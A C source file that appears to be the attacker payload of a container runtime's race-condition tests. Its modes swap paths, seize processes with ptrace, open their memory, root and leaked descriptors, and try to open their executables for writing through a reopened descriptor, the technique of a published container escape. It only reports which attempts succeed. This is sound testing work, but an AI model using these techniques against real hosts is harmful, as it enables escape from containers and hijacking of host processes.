/*
 * Attacks that need speed, from inside a container: the payload of the race tests.
 *
 *   racer swap PATH OTHER [PATH OTHER]...   exchange each pair again and again until it is killed
 *   racer witness PATH...    what lies at each path of procfs, looked up until it is not a fake
 *   racer hunt [SECONDS]     attack every process that appears: trace it, open its descriptors, root,
 *                            memory and program; at SIGTERM or after SECONDS say as JSON what worked
 *   racer dig DEPTH PATH     make directories in each other, deeper than any path reaches
 *   racer overwrite          open the program of every process for writing, through a descriptor of
 *                            it too; at SIGTERM say as JSON what worked
 *
 * The first thing that the attackers print is a line "ready"; witness prints its JSON alone.
 *
 * gcc -static -O2 -Wall -Wextra -Werror -o racer racer.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PROC_SUPER_MAGIC 0x9fa0
#define SEIZE 0x4206
#define TRIES 200000

static volatile sig_atomic_t ended;

static void end(int number)
{
    (void)number;
    ended = 1;
}

static void ready(void)
{
    /* SIGTERM reaches PID 1 of a container only when it has a handler. */
    struct sigaction action = {.sa_handler = end};

    sigaction(SIGTERM, &action, NULL);
    if (write(1, "ready\n", 6) < 0)
        _exit(3);
}

static int swap(char **paths, int count)
{
    ready();
    while (!ended)
        for (int i = 0; i + 1 < count; i += 2)
            syscall(SYS_renameat2, AT_FDCWD, paths[i], AT_FDCWD, paths[i + 1], 2);
    return 0;
}

static void escaped(const char *text, ssize_t length)
{
    for (ssize_t i = 0; i < length; i++) {
        unsigned char c = text[i];
        if (c < 0x20 || c >= 0x7f || c == '"' || c == '\\')
            printf("\\u%04x", c);
        else
            putchar(c);
    }
}

/* One path: regular files of procfs by their content, anything else by its type and numbers. */
static int look(const char *path)
{
    struct statfs system;
    struct stat status;
    char content[4096];
    ssize_t length = 0;
    /* One look-up by name: a second one, of the descriptor below /proc too, would be another race. */
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);

    if (fd < 0)
        return 0;
    if (fstat(fd, &status) < 0 || fstatfs(fd, &system) < 0) {
        close(fd);
        return 0;
    }
    if (S_ISREG(status.st_mode)) {
        if (system.f_type != PROC_SUPER_MAGIC) {
            close(fd);
            return 0;
        }
        length = read(fd, content, sizeof content);
    }
    printf("\"%s\":{\"mode\":%u,\"major\":%u,\"minor\":%u,\"content\":\"", path, status.st_mode,
           major(status.st_rdev), minor(status.st_rdev));
    escaped(content, length);
    fputs("\"}", stdout);
    close(fd);
    return 1;
}

static int witness(char **paths, int count)
{
    putchar('{');
    for (int i = 0; i < count; i++) {
        int found = 0;
        for (int attempt = 0; attempt < TRIES && !found; attempt++)
            found = look(paths[i]);
        if (!found)
            printf("\"%s\":null", paths[i]);
        putchar(i + 1 < count ? ',' : '}');
    }
    putchar('\n');
    return 0;
}

/* What worked against whom, without repetitions */

static char *told[4096];
static int told_count;
static long attempts;

static void tell(const char *what, const char *program, const char *detail)
{
    char line[1024];

    snprintf(line, sizeof line, "%s %s %s", what, program, detail);
    for (int i = 0; i < told_count; i++)
        if (!strcmp(told[i], line))
            return;
    if (told_count < (int)(sizeof told / sizeof *told))
        told[told_count++] = strdup(line);
}

static int report(long seen)
{
    printf("{\"seen\":%ld,\"attempts\":%ld,\"worked\":[", seen, attempts);
    for (int i = 0; i < told_count; i++) {
        printf("%s\"", i ? "," : "");
        escaped(told[i], strlen(told[i]));
        putchar('"');
    }
    puts("]}");
    fflush(stdout);
    return 0;
}

static void program_of(const char *pid, char *name, size_t size)
{
    char path[64];
    ssize_t length;

    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    length = readlink(path, name, size - 1);
    name[length < 0 ? 0 : length] = 0;
    if (length < 0)
        snprintf(name, size, "?%d", errno);
}

/* A host's file through a descriptor, or the host's root: what CVE-2016-9962 was about. */
static void descriptors(const char *pid)
{
    char path[320], target[512], after[512];
    DIR *directory;
    struct dirent *entry;

    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    attempts++;
    if (!(directory = opendir(path)))
        return;
    program_of(pid, after, sizeof after);
    tell("list-fds", after, "");
    while ((entry = readdir(directory))) {
        if (entry->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "/proc/%s/fd/%.200s", pid, entry->d_name);
        int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd < 0)
            continue;
        /* What was opened: the number may have stood for another file before. */
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        /* Whose it is now, as below. */
        program_of(pid, after, sizeof after);
        tell("fd", after, target);
        close(fd);
    }
    closedir(directory);
}

static void attack(const char *pid)
{
    static const char *const files[] = {"mem", "root/.", "cwd/.", "environ", "maps", "exe"};
    char path[320], after[512];
    int number = atoi(pid);

    attempts++;
    if (ptrace(SEIZE, number, 0, 0) == 0) {
        program_of(pid, after, sizeof after);
        tell("seize", after, "");
        ptrace(PTRACE_INTERRUPT, number, 0, 0);
        waitpid(number, NULL, __WALL);
        ptrace(PTRACE_DETACH, number, 0, 0);
    }
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, files[i]);
        int fd = open(path, (i ? O_RDONLY : O_RDWR) | O_CLOEXEC);
        attempts++;
        if (fd < 0)
            continue;
        /* Whose it is now: between the look and the open it may have become the payload. */
        program_of(pid, after, sizeof after);
        tell(files[i], after, "");
        close(fd);
    }
    descriptors(pid);
}

static int hunt(int seconds)
{
    struct timespec now, start;
    long seen = 0;
    int last = 0;

    ready();
    clock_gettime(CLOCK_MONOTONIC, &start);
    while (!ended) {
        DIR *directory = opendir("/proc");
        struct dirent *entry;
        int highest = last;

        while (directory && (entry = readdir(directory))) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid())
                continue;
            attack(entry->d_name);
            if (pid > highest) {
                highest = pid;
                seen++;
            }
        }
        last = highest;
        if (directory)
            closedir(directory);
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (seconds && now.tv_sec - start.tv_sec - (now.tv_nsec < start.tv_nsec) >= seconds)
            break;
    }
    return report(seen);
}

static void write_to(const char *pid)
{
    char path[320], link[64], program[512];
    int reader, writer;

    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    attempts++;
    reader = open(path, O_RDONLY | O_CLOEXEC);
    if (reader < 0)
        return;
    program_of(pid, program, sizeof program);
    writer = open(path, O_WRONLY | O_CLOEXEC);
    if (writer < 0) {
        /* The published exploit: wait until nobody runs it, then open the descriptor anew. */
        snprintf(link, sizeof link, "/proc/self/fd/%d", reader);
        for (int i = 0; i < 2000 && writer < 0; i++)
            writer = open(link, O_WRONLY | O_CLOEXEC);
    }
    if (writer >= 0) {
        tell("write", program, "");
        close(writer);
    }
    close(reader);
}

static int overwrite(void)
{
    long seen = 0;

    ready();
    while (!ended) {
        DIR *directory = opendir("/proc");
        struct dirent *entry;

        while (directory && (entry = readdir(directory))) {
            int pid = atoi(entry->d_name);
            if (pid < 1 || pid == getpid())
                continue;
            write_to(entry->d_name);
            seen++;
        }
        if (directory)
            closedir(directory);
    }
    return report(seen);
}

static int dig(int depth, const char *path)
{
    if (mkdir(path, 0755) < 0 || chdir(path) < 0)
        return 1;
    while (depth-- > 0)
        if (mkdir("d", 0755) < 0 || chdir("d") < 0)
            return 1;
    return 0;
}

int main(int count, char **arguments)
{
    if (count == 4 && !strcmp(arguments[1], "dig"))
        return dig(atoi(arguments[2]), arguments[3]);
    if (count >= 4 && !strcmp(arguments[1], "swap"))
        return swap(arguments + 2, count - 2);
    if (count >= 3 && !strcmp(arguments[1], "witness"))
        return witness(arguments + 2, count - 2);
    if (count >= 2 && !strcmp(arguments[1], "hunt"))
        return hunt(count > 2 ? atoi(arguments[2]) : 0);
    if (count == 2 && !strcmp(arguments[1], "overwrite"))
        return overwrite();
    fputs("usage: see the head of racer.c\n", stderr);
    return 2;
}
